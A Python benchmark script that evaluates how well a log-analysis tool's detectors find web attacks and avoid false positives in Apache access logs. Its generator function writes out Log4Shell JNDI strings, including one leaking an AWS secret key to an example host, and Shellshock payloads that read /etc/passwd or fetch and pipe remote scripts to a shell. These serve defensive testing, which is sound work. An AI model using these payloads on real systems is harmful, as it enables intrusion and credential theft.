"""How well ``logtool review`` finds attacks and how rarely it cries wolf, on data it was not
tuned on.

Labelled payloads: PayloadsAllTheThings intruder lists (``attacks/payloads.tsv``) and the HTTP
parameter set (``http-params/payload_train.csv``), plus generated Log4Shell and Shellshock
variants (every obfuscation the issue names). Each payload is split into ``train`` or ``eval``
by a hash of its text (30 % eval); rules were tuned on ``train`` only and the figures below are
``eval`` unless ``--split`` says otherwise. ``{FILE}`` placeholders of the traversal lists are
filled with ``etc/passwd``, as their users do. Every payload is put into a combined-format
request line eight ways: raw and URL-encoded, in the path, the query, the referrer and the user
agent (escaped as Apache logs them), parsed by logtool's own parser and run through the
per-request detectors. Benign values (the parameter set's ``norm`` rows) go the same eight ways.

Also: the real 10k-line Apache log (every flagged request, its severity, and whether it is one
of the requests judged attacks by hand in ``bench/yardstick/elastic-apache-10k.attacks``), the
fail2ban access-log test files shipped in Debian's ``fail2ban`` package (``# failJSON``
expectations, line by line) and the CrowdSec hub tests in ``bench/yardstick/crowdsec`` (an
alert's source address must get a finding).

    python bench/detect_eval.py [--datasets ../shared/datasets] [--split eval|train|all] [--misses N]
"""

from __future__ import annotations

import argparse
import csv
import hashlib
import json
import re
import sys
import urllib.parse
from collections import Counter, defaultdict
from datetime import UTC, datetime
from pathlib import Path

import polars as pl

from logtool.config import Policy
from logtool.detect.findings import review_frame
from logtool.detect.rules import load_rules
from logtool.detect.signatures import request_hits
from logtool.errors import InputError
from logtool.parsers import custom_format, detect_first, get_format

HERE = Path(__file__).resolve().parent
#: ``shared/`` beside the clone (or beside the folder of work trees).
DEFAULT = next((p / "shared" / "datasets" for p in HERE.parents[1:3] if (p / "shared" / "datasets").is_dir()),
               HERE.parents[1] / "shared" / "datasets")  # fmt: skip
FAIL2BAN = Path("/usr/lib/python3/dist-packages/fail2ban/tests/files/logs")
#: fail2ban test files that hold web access-log lines (the others are error logs or other daemons).
FAIL2BAN_ACCESS = ("apache-badbots", "apache-fakegooglebot", "nginx-bad-request", "nginx-botsearch", "php-url-fopen",
                   "traefik-auth")  # fmt: skip
LABELS = {"path-traversal": "traversal"}
TARGETS = {"sqli": 0.95, "xss": 0.95, "log4shell": 0.95, "shellshock": 0.95, "traversal": 0.90, "cmdi": 0.90}
POSITIONS = ("path", "query", "referrer", "user_agent")
HIGH = {"sqli", "cmdi", "log4shell", "shellshock", "rfi"}


def split_of(payload: str) -> str:
    return "eval" if hashlib.sha256(payload.encode()).digest()[0] % 10 < 3 else "train"


def generated() -> list[tuple[str, str, str]]:
    """Log4Shell and Shellshock variants: (category, payload, source)."""
    out = []
    jndi = ["jndi", "${::-j}ndi", "${::-j}${::-n}${::-d}${::-i}", "${lower:j}ndi", "${upper:j}${upper:n}di",
            "${lower:jndi}", "${date:'j'}${date:'n'}di", "${what:ever:-j}ndi", "${env:BARFOO:-j}ndi",
            "j${k8s:k5:-ND}i", "${env:NaN:-j}${env:NaN:-n}${env:NaN:-d}${env:NaN:-i}", "\\u006a\\u006e\\u0064\\u0069",
            "${::-J}${::-N}DI", "${upper:J}ndi", "j${::-n}d${::-i}"]  # fmt: skip
    proto = ["ldap", "ldaps", "rmi", "dns", "iiop", "${lower:l}${lower:d}a${lower:p}", "${::-l}dap", "corba", "nis"]
    hosts = ["x.example.com/a", "${hostName}.example.net/a", "203.0.113.5:1389/Basic/Command/Base64/aWQ=",
             "${java:version}.example.org/z", "${env:AWS_SECRET_ACCESS_KEY}.example.com/x"]  # fmt: skip
    for i, j in enumerate(jndi):
        for k, p in enumerate(proto):
            for m, h in enumerate(hosts):
                if (i + k + m) % 3 == 0:
                    sep = ":" if (i + m) % 4 else "${env:NaN:-:}"
                    out.append(("log4shell", "${" + j + sep + p + "://" + h + "}", "generated"))
    bodies = ["echo; /bin/bash -c 'cat /etc/passwd'", "/bin/bash -c \"wget http://x.example.com/a -O /tmp/a\"",
              "echo Content-Type: text/plain; echo; id", "ping -c 1 203.0.113.9", "/usr/bin/id",
              "echo vulnerable", "curl http://x.example.org/s|sh", "sleep 5"]  # fmt: skip
    heads = ["() { :; };", "() { :;};", "(){ :; };", "() { _; } >_[$($())] {", "() { :; }; ", "() {:;};",
             "() { ignored; };", "() { x; };"]  # fmt: skip
    for h in heads:
        for b in bodies:
            out.append(("shellshock", f"{h} {b}" + (" }" if "$(" in h else ""), "generated"))
    return out


def load_payloads(root: Path) -> list[tuple[str, str, str, str]]:
    """(category, payload, dataset, source) of every labelled value."""
    rows = []
    with open(root / "attacks" / "payloads.tsv", encoding="utf-8", newline="") as f:
        for r in list(csv.reader(f, delimiter="\t", quoting=csv.QUOTE_NONE))[1:]:
            payload = "\t".join(r[1:-1])
            payload = payload.replace("{FILE}", "etc/passwd").replace("{file}", "etc/passwd")
            rows.append((r[0], payload, "PayloadsAllTheThings", r[-1] or "(none)"))
    with open(root / "http-params" / "payload_train.csv", encoding="utf-8", newline="") as f:
        for r in csv.DictReader(f):
            payload = r["payload"].replace("{FILE}", "etc/passwd").replace("{file}", "etc/passwd")
            cat = LABELS.get(r["attack_type"], r["attack_type"])
            rows.append(("benign" if cat == "norm" else cat, payload, "HttpParamsDataset", "payload_train.csv"))
    rows += [(c, p, "generated", s) for c, p, s in generated()]
    return rows


def escape(text: str) -> str:
    """A value as Apache logs it inside quotes: ``\\"``, ``\\\\`` and ``\\xHH`` for control bytes."""
    out = text.replace("\\", "\\\\").replace('"', '\\"')
    return "".join(c if c >= " " and c != "\x7f" else f"\\x{ord(c):02x}" for c in out)


def line(value: str, position: str) -> str:
    request, ref, ua = (
        "GET /search?q=a HTTP/1.1",
        "-",
        "Mozilla/5.0 (X11; Linux x86_64; rv:120.0) Gecko/20100101 Firefox/120.0",
    )
    if position == "path":
        request = f"GET /{value.lstrip('/')} HTTP/1.1"
    elif position == "query":
        request = f"GET /search?q={value} HTTP/1.1"
    elif position == "referrer":
        ref = f"https://www.example.org/page?q={value}"
    else:
        ua = value
    return f'203.0.113.7 - - [24/Nov/2026:10:00:00 +0000] "{escape(request)}" 200 1 "{escape(ref)}" "{escape(ua)}"'


def flagged(lines: list[str], rules: dict) -> tuple[list[set[str]], int]:
    """Per line: the categories found (lines the parser rejects: empty), and the rejected count."""
    rec, rej = get_format("combined").parse(pl.DataFrame({"line_no": range(len(lines)), "line": lines}))
    hits = request_hits(rec, rules)
    per_row: dict[int, set[str]] = defaultdict(set)
    for row, cat in hits.select("_row", "category").iter_rows():
        per_row[row].add(cat)
    out = [set() for _ in lines]
    for i, ln in enumerate(rec.get_column("line_no").to_list()):
        out[ln] = per_row.get(i, set())
    return out, rej.height


def labelled(args: argparse.Namespace, rules: dict) -> dict[str, float]:
    rows = [r for r in load_payloads(args.datasets) if args.split == "all" or split_of(r[1]) == args.split]
    lines, meta = [], []
    for cat, payload, dataset, source in rows:
        value = payload.replace("\n", " ") if cat != "cmdi" else payload
        for enc in ("raw", "url"):
            v = value if enc == "raw" else urllib.parse.quote(value, safe="")
            for pos in POSITIONS:
                lines.append(line(v, pos))
                meta.append((cat, dataset, source, pos, enc, payload))
    found, rejected = flagged(lines, rules)
    print(f"\n== labelled payloads ({args.split} split): {len(rows):,} values, {len(lines):,} request lines, "
          f"{rejected:,} rejected by the parser")  # fmt: skip
    tally: dict[tuple, list[int]] = defaultdict(lambda: [0, 0])
    misses: dict[str, list[str]] = defaultdict(list)
    fps: list[tuple[str, str, set[str]]] = []
    for (cat, dataset, source, pos, enc, payload), cats in zip(meta, found, strict=True):
        if cat == "benign":
            hit = bool(cats)
            if hit:
                fps.append((pos + "/" + enc, payload, cats))
        else:
            hit = cat in cats if cat in TARGETS else bool(cats)
            if not hit:
                misses[cat].append(f"{pos}/{enc}: {payload[:100]!r}")
        for key in ((cat,), (cat, dataset), (cat, dataset, source), (cat, "pos", pos, enc)):
            tally[key][0] += hit
            tally[key][1] += 1
    result = {}
    print(f"{'category':<12} {'recall':>8} {'target':>7}  per dataset")
    for cat in [*TARGETS, "nosqli", "ldapi", "ssti"]:
        if (cat,) not in tally:
            continue
        hit, n = tally[(cat,)]
        result[cat] = hit / n
        target = TARGETS.get(cat)
        per = "  ".join(f"{d} {tally[k][0] / tally[k][1]:.1%}" for k in sorted(tally) if len(k) == 2 and k[0] == cat
                        for d in [k[1]])  # fmt: skip
        mark = ("ok" if hit / n >= target else "BELOW") if target else "(any detector; not a category)"
        print(f"{cat:<12} {hit / n:>8.2%} {target or 0:>7.0%}  {per}  {mark}")
    print("\nper source (recall, values x 8 lines):")
    for k in sorted(tally):
        if len(k) == 3 and k[0] != "benign":
            print(f"  {k[0]:<10} {k[1]:<21} {k[2][:60]:<60} {tally[k][0] / tally[k][1]:>7.1%} of {tally[k][1]:>6,}")
    print("\nper position and encoding (recall over the six target categories):")
    for pos in POSITIONS:
        cells = []
        for enc in ("raw", "url"):
            h = sum(tally[(c, "pos", pos, enc)][0] for c in TARGETS)
            n = sum(tally[(c, "pos", pos, enc)][1] for c in TARGETS)
            cells.append(f"{enc} {h / max(n, 1):.1%}")
        print(f"  {pos:<11} " + "  ".join(cells))
    benign = tally[("benign",)]
    high = sum(1 for _, _, c in fps if c & HIGH)
    result["benign_fp"] = benign[0] / max(benign[1], 1)
    print(f"\nbenign false positives: {benign[0]:,} of {benign[1]:,} lines = {result['benign_fp']:.3%} "
          f"(target <= 0.1 %), {high} at high severity")  # fmt: skip
    for pos, payload, cats in fps[: args.misses]:
        print(f"  FP {sorted(cats)} {pos}: {payload[:100]!r}")
    for cat, ms in misses.items():
        if args.misses and cat in TARGETS:
            print(f"  misses {cat}: {len(ms):,}")
            for m in ms[: args.misses]:
                print(f"    {m}")
    return result


#: fail2ban's fake-Googlebot file uses a LogFormat of its own, with no offset in its timestamps.
CUSTOM = {"apache-fakegooglebot": '%h %l %u %{X}i %t %v "%r" %>s %b "%{Referer}i" "%{User-Agent}i" %X %I %O %D'}


def _review_lines(lines: list[str], name: str) -> tuple[pl.DataFrame, list]:
    """Parse ``lines`` in their detected format and review them with full detail."""
    if name in CUSTOM:
        lines = [ln.replace(" ]", " +0000]") for ln in lines]
        fmt = custom_format(log_format=CUSTOM[name])
        rec, _ = fmt.parse(pl.DataFrame({"line_no": range(len(lines)), "line": lines}))
    else:  # a file of mixed formats (some hub tests) is parsed line by line
        frames = []
        for i, ln in enumerate(lines):
            try:
                fmt, _ = detect_first(pl.Series([ln]), name)
            except InputError:
                continue
            frames.append(fmt.parse(pl.DataFrame({"line_no": [i], "line": [ln]}))[0])
        if not frames:
            raise InputError(f"{name}: no line parses")
        rec = pl.concat(frames, how="diagonal_relaxed")
    rec = rec.with_columns(pl.lit(name).alias("source_file"), pl.col("client_ip").alias("client_net"))
    return rec, review_frame(rec, Policy(), load_rules(), hold="bench")


def real_log(args: argparse.Namespace, rules: dict) -> dict[str, float]:
    path = args.datasets / "real" / "elastic-apache-combined-10k.log"
    judged = {int(x.split()[0]) for x in (HERE / "yardstick" / "elastic-apache-10k.attacks").read_text().splitlines()
              if x.strip() and not x.startswith("#")}  # fmt: skip
    lines = path.read_text(encoding="utf-8", errors="replace").splitlines()
    rec, _ = get_format("combined").parse(pl.DataFrame({"line_no": range(1, len(lines) + 1), "line": lines}))
    hits = request_hits(rec, rules).join(rec.with_row_index("_row").select("_row", "line_no"), on="_row")
    sev = rules["severity"]
    flagged_lines = hits.group_by("line_no").agg("category", "field", "excerpt").sort("line_no")
    fp = [r for r in flagged_lines.iter_rows(named=True) if r["line_no"] not in judged]
    fp_high = [r for r in fp if any(sev[c] == "high" for c in r["category"])]
    benign = rec.height - len(judged)
    print(f"\n== real log ({path.name}): {rec.height:,} requests parsed, {flagged_lines.height} flagged, "
          f"{len(judged)} judged attacks by hand")  # fmt: skip
    print(f"found {sum(1 for r in flagged_lines.iter_rows(named=True) if r['line_no'] in judged)} of {len(judged)} "
          f"judged attacks; false positives {len(fp)} = {len(fp) / benign:.3%} of {benign:,} benign, "
          f"{len(fp_high)} at high severity")  # fmt: skip
    print("per category:", dict(Counter(c for cs in flagged_lines.get_column("category").to_list() for c in cs)))
    for r in flagged_lines.iter_rows(named=True):
        if args.show_real or r["line_no"] not in judged:
            mark = "judged attack" if r["line_no"] in judged else "FALSE POSITIVE"
            print(f"  line {r['line_no']:>5} {mark:<14} {r['category']} {r['field']} {[e[:50] for e in r['excerpt']]}")
    return {"real_fp": len(fp) / benign, "real_fp_high": len(fp_high)}


def fail2ban(rules: dict) -> tuple[int, int]:
    if not FAIL2BAN.is_dir():
        print("\n== fail2ban: test files not installed (apt-get install fail2ban); skipped")
        return 0, 0
    met = total = 0
    print("\n== fail2ban access-log test files (failJSON expectations, per line)")
    for name in FAIL2BAN_ACCESS:
        expect, lines = [], []
        pending, normal = None, True
        for raw in (FAIL2BAN / name).read_text(encoding="utf-8", errors="replace").splitlines():
            if raw.startswith("# filterOptions:"):  # expectations of other filter modes do not apply
                normal = any(o.get("mode") == "normal" for o in json.loads(raw.split(":", 1)[1]))
            elif raw.startswith("# failJSON:") and normal:
                pending = json.loads(raw.split(":", 1)[1])
            elif raw.strip() and not raw.startswith("#") and pending is not None:
                if re.match(r"^\S+ \S+ \S+ (?:\S+ )?\[", raw):  # an access-log line, not an error-log one
                    expect.append(pending)
                    lines.append(raw)
                pending = None
        rec, found = _review_lines(lines, name)
        # a failed authentication is what fail2ban's auth filters count, line by line
        auth = rec.filter(pl.col("status").is_in([401, 403]) & pl.col("remote_user").is_not_null())
        hit_rows = request_hits(rec, rules).get_column("_row")
        got = set(rec.get_column("line_no").gather(hit_rows).to_list()) | set(auth.get_column("line_no").to_list())
        ok = sum((i in got) == bool(e.get("match")) for i, e in enumerate(expect))
        print(f"  {name:<22} {ok}/{len(expect)} expectations met")
        met, total = met + ok, total + len(expect)
    print(f"  total {met}/{total} = {met / max(total, 1):.1%} (target >= 90 %)")
    return met, total


def crowdsec() -> tuple[int, int]:
    root = HERE / "yardstick" / "crowdsec"
    expect: dict[str, list[tuple[str, str]]] = defaultdict(list)
    for row in (root / "expect.tsv").read_text().splitlines():
        if row and not row.startswith("#"):
            test, scenario, client = row.split("\t")
            expect[test].append((scenario, client))
    met = total = 0
    print(f"\n== CrowdSec hub tests ({len(expect)} access-log tests in bench/yardstick/crowdsec)")
    for test, wants in sorted(expect.items()):
        lines = (root / f"{test}.log").read_text().splitlines()
        try:
            _, found = _review_lines(lines, test)
        except InputError as e:
            print(f"  {test:<36} 0/{len(wants)}  {e}")
            total += len(wants)
            continue
        clients = {f.client for f in found}
        ok = sum((c in clients) != (s == "none") for s, c in wants)
        if ok < len(wants):
            print(f"  {test:<36} {ok}/{len(wants)}  findings: {sorted({f.category for f in found})}")
        met, total = met + ok, total + len(wants)
    print(f"  total {met}/{total} = {met / max(total, 1):.1%} (target >= 90 %)")
    return met, total


def main() -> None:
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("--datasets", type=Path, default=DEFAULT)
    ap.add_argument("--split", choices=("eval", "train", "all"), default="eval")
    ap.add_argument("--misses", type=int, default=0, help="Show this many misses and false positives per category.")
    ap.add_argument("--show-real", action="store_true", help="List every flagged line of the real log.")
    ap.add_argument("--only", choices=("labelled", "real", "suites"), help="Run one part only.")
    args = ap.parse_args()
    rules = load_rules()
    t0 = datetime.now(UTC)
    if args.only in (None, "labelled"):
        labelled(args, rules)
    if args.only in (None, "real"):
        real_log(args, rules)
    if args.only in (None, "suites"):
        fail2ban(rules)
        crowdsec()
    print(f"\n({(datetime.now(UTC) - t0).total_seconds():.0f} s)", file=sys.stderr)


if __name__ == "__main__":
    main()
